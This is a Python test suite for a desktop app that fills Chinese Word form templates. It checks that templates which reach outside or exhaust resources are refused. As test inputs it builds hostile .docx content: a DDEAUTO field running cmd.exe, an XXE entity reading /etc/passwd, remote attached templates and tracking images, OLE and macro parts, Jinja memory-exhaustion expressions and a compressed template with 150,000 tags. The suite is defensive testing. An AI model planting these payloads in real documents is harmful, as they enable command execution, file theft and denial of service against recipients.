"""Shared Word templates are inert and bounded: nothing in them reaches out (external relationships,
OLE, fetching fields, DOCTYPE/ENTITY, macros), no single operation outgrows the limits, the load is
bounded by size and tags, and the whole render, load included, is under the time limit. Every
attack runs in a child process under a memory and time limit."""

from __future__ import annotations

import io
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from desktop.paths import forms_dir, samples_dir
from tests.limited import grant_desk, grant_desk_each

SAMPLE = str(samples_dir() / "chengdu-trader.json")
FORM = "申报书.docx"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEMORY = 1_200_000_000
Edit = Callable[[dict[str, bytes]], None]


def _paragraph(xml: str) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"<w:body>", b"<w:body>" + xml.encode(), 1
        )

    return edit


def _relationship(kind: str, target: str, external: bool = True) -> Edit:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'

    def edit(parts: dict[str, bytes]) -> None:
        parts[RELS] = parts[RELS].replace(b"</Relationships>", element.encode() + b"</Relationships>")

    return edit


def _both(*edits: Edit) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        for each in edits:
            each(parts)

    return edit


def _add(name: str, data: bytes) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts[name] = data

    return edit


def _doctype(parts: dict[str, bytes]) -> None:
    xml = parts["word/document.xml"]
    start = xml.index(b"<w:document")
    parts["word/document.xml"] = (
        xml[:start] + b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xml[start:]
    )


def _macro_types(parts: dict[str, bytes]) -> None:
    parts[TYPES] = parts[TYPES].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )


def _tags(count: int) -> Edit:
    return _paragraph("<w:p><w:r><w:t>" + "{{ year }}" * count + "</w:t></w:r></w:p>")


def forms_with(folder: Path, edit: Edit, name: str = FORM) -> Path:
    """Copy the bundled forms to ``folder`` and apply ``edit`` to the parts of one of them."""
    shutil.copytree(forms_dir(), folder, dirs_exist_ok=True)
    path = folder / name
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    edit(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    path.write_bytes(buffer.getvalue())
    return folder


INERT_CASES = {
    "external image (file:)": (
        _relationship("image", "file:///etc/passwd"),
        [RELS, "图片指向外部地址 file:///etc/passwd"],
    ),
    "external image (http:)": (
        _relationship("image", "http://198.51.100.7/track.png"),
        [RELS, "图片指向外部地址 http://198.51.100.7/track.png"],
    ),
    "external hyperlink": (_relationship("hyperlink", "file:///C:/Users/"), [RELS, "超链接指向外部地址"]),
    "attached template": (
        _relationship("attachedTemplate", "http://198.51.100.7/t.dotm"),
        [RELS, "attachedTemplate"],
    ),
    "OLE object": (
        _both(
            _relationship("oleObject", "embeddings/oleObject1.bin", external=False),
            _add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ),
        ["word/embeddings/oleObject1.bin", "嵌入的 OLE 对象"],
    ),
    "embedded object element": (
        _paragraph('<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'),
        ["word/document.xml", "嵌入对象 <w:object>"],
    ),
    "INCLUDEPICTURE field": (
        _paragraph(
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.7/x.png&quot; \\d "/></w:p>'
        ),
        ["word/document.xml", "INCLUDEPICTURE 域"],
    ),
    "INCLUDETEXT field split over runs": (
        _paragraph(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText>TEXT "C:\\\\secret.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        ["word/document.xml", "INCLUDETEXT 域"],
    ),
    "LINK field": (
        _paragraph(
            '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\\\\\server\\\\x.xls&quot; "/></w:p>'
        ),
        ["word/document.xml", "LINK 域"],
    ),
    "DDEAUTO field": (
        _paragraph(
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
        ),
        ["word/document.xml", "DDEAUTO 域"],
    ),
    "VML image from a file": (
        _paragraph('<w:p><w:r><w:pict><v:imagedata o:href="file:///etc/passwd"/></w:pict></w:r></w:p>'),
        ["word/document.xml", "引用外部地址 file:///etc/passwd"],
    ),
    "DOCTYPE and ENTITY": (_doctype, ["word/document.xml", "<!DOCTYPE> 声明"]),
    "macros": (
        _both(_add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), _macro_types),
        ["word/vbaProject.bin", "宏(VBA 工程)"],
    ),
}


@pytest.mark.parametrize("case", list(INERT_CASES))
def test_a_template_that_reaches_out_is_refused_by_forms_check_and_at_load(tmp_path: Path, case: str) -> None:
    edit, words = INERT_CASES[case]
    forms = forms_with(tmp_path / "forms", edit)
    out = tmp_path / "out"
    checked, made = grant_desk_each(
        ["forms", "check", str(forms)],
        ["packet", SAMPLE, "--out", str(out), "--forms", str(forms)],
        memory=MEMORY,
    )
    assert checked.returncode == 2, checked.stdout + checked.stderr
    block = checked.stdout[checked.stdout.index(f"✗ {FORM}") :].split("\n✓")[0]
    for word in words:
        assert word in block, checked.stdout
    assert made.returncode == 2 and "Traceback" not in made.stderr
    assert FORM in made.stderr and all(word in made.stderr for word in words), made.stderr
    assert not out.exists() or list(out.iterdir()) == []


def test_what_the_tags_write_must_be_inert_too(tmp_path: Path) -> None:
    tag = "<w:p><w:r><w:instrText>{{ 'INCLUDE' ~ 'PICTURE http://198.51.100.7/x.png' }}</w:instrText></w:r></w:p>"
    forms = forms_with(tmp_path / "forms", _paragraph(tag))
    made = grant_desk("packet", SAMPLE, "--out", str(tmp_path / "out"), "--forms", str(forms), memory=MEMORY)
    assert made.returncode == 2
    assert "word/document.xml(填写后): 含有 INCLUDEPICTURE 域" in made.stderr
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


EXHAUSTION = {
    "power tower": "{{ (((10**1000)**1000)**1000) > 1 }}",
    "joined repeats": "{{ (['x'*15000000]*100)|join|length }}",
    "replace": "{{ ('x'*15000000)|replace('x', 'xx')|length }}",
    "concatenation": "{% set s = 'x'*15000000 %}{{ (s ~ s ~ s)|length }}",
    "joined map": "{% set s = 'x'*10000000 %}{{ [s, s, s, s]|map('upper')|join|length }}",
    "str.format": "{% set s = 'x'*10000000 %}{{ '{}{}{}'.format(s, s, s)|length }}",
    "batch fill": "{{ [1]|batch(999999999, 'x')|list|length }}",
}


@pytest.mark.parametrize("case", list(EXHAUSTION))
def test_no_single_operation_outgrows_the_limits(tmp_path: Path, case: str) -> None:
    forms = forms_with(tmp_path / "forms", _paragraph(f"<w:p><w:r><w:t>{EXHAUSTION[case]}</w:t></w:r></w:p>"))
    out = tmp_path / "out"
    made, checked = grant_desk_each(
        ["packet", SAMPLE, "--out", str(out), "--forms", str(forms)],
        ["forms", "check", str(forms)],
        memory=MEMORY,
    )
    assert made.returncode == 2, made.stderr
    # Refused by its own guard ("不允许的操作"), not stopped by the 10 s limit after filling memory.
    assert made.seconds < 30, f"{case}: {made.seconds:.1f} s"
    assert (
        FORM in made.stderr and "不允许的操作" in made.stderr and len(made.stderr.strip().splitlines()) == 1
    )
    assert checked.returncode == 2 and "不允许的操作" in checked.stdout


def test_a_small_file_with_150000_tags_is_refused_at_load(tmp_path: Path) -> None:
    forms = forms_with(tmp_path / "forms", _tags(150_000))
    assert (forms / FORM).stat().st_size < 100_000  # compressed: small on disk, huge inside
    made = grant_desk("packet", SAMPLE, "--out", str(tmp_path / "out"), "--forms", str(forms), memory=MEMORY)
    assert made.returncode == 2 and made.seconds < 30
    assert "共有 150,003 个标签，超过 1,000 个" in made.stderr or "超过 1 MB" in made.stderr, made.stderr


def test_tags_beyond_the_limit_are_refused_by_count(tmp_path: Path) -> None:
    forms = forms_with(tmp_path / "forms", _tags(1_000))
    checked = grant_desk("forms", "check", str(forms), memory=MEMORY)
    assert checked.returncode == 2 and "个标签，超过 1,000 个" in checked.stdout


def test_a_part_over_the_size_limit_is_refused_at_load(tmp_path: Path) -> None:
    filler = "<w:p><w:r><w:t>" + "申报" * 200_000 + "</w:t></w:r></w:p>"
    forms = forms_with(tmp_path / "forms", _paragraph(filler))
    checked = grant_desk("forms", "check", str(forms), memory=MEMORY)
    assert checked.returncode == 2 and "word/document.xml: 超过 1 MB，不像是表单模板" in checked.stdout


def test_loading_counts_against_the_time_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    from desktop.errors import TemplateError
    from desktop.packet.templates import compile_docx

    monkeypatch.setattr("desktop.packet.sandbox.RENDER_SECONDS", 0.0)
    with pytest.raises(TemplateError) as caught:
        compile_docx(forms_dir() / "申请表.docx")
    assert "读取模板超过时间限制" in str(caught.value)


def test_the_bundled_forms_are_inert() -> None:
    from desktop.packet.inert import inert_problems

    for path in forms_dir().glob("*.docx"):
        with zipfile.ZipFile(path) as archive:
            assert inert_problems((i.filename, archive.read(i)) for i in archive.infolist()) == [], path.name
